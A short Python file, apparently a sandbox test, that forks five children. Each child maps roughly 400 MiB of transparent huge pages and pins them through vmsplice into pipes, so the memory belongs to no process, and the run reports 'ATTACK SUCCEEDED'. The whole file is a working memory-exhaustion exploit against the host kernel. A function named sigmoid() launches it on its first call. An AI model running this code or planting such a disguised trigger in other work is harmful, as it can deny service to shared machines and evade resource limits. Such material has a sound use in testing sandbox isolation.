"""Goal: fill memory with huge pages that belong to no process, by leaving one corner of each in a pipe.

Without a sandbox: unsafe
"""

import ctypes
import mmap
import os
import time

CHILDREN, MIB, HUGE = 5, 400, 2 << 20
libc = ctypes.CDLL(None, use_errno=True)


def fill():
    kept = []
    for _ in range(MIB // 2):
        # Twice as much, as huge pages begin where their addresses say so.
        memory = mmap.mmap(-1, 2 * HUGE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        memory.madvise(mmap.MADV_HUGEPAGE)
        start = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        huge = -(-start // HUGE) * HUGE
        ctypes.memset(huge, 1, HUGE)
        pipe = os.pipe()
        corner = (ctypes.c_size_t * 2)(huge, 4096)
        if libc.vmsplice(pipe[1], corner, ctypes.c_size_t(1), 0) < 0:
            os._exit(1)
        kept.append(pipe)
        memory.close()
    time.sleep(60)


def attack():
    try:
        for _ in range(CHILDREN):
            if os.fork() == 0:
                try:
                    fill()
                finally:
                    os._exit(1)
    except OSError as error:
        raise RuntimeError(f"stopped by: {error!r}")
    time.sleep(2)
    if os.waitpid(-1, os.WNOHANG) == (0, 0):
        raise RuntimeError(f"ATTACK SUCCEEDED: {CHILDREN * MIB} MiB of memory in use")
    raise RuntimeError("stopped by: the pages could not be put into a pipe")


# Once a worker, so that no more is used than is said.
ONCE = iter([attack])


def sigmoid(x):
    next(ONCE)()
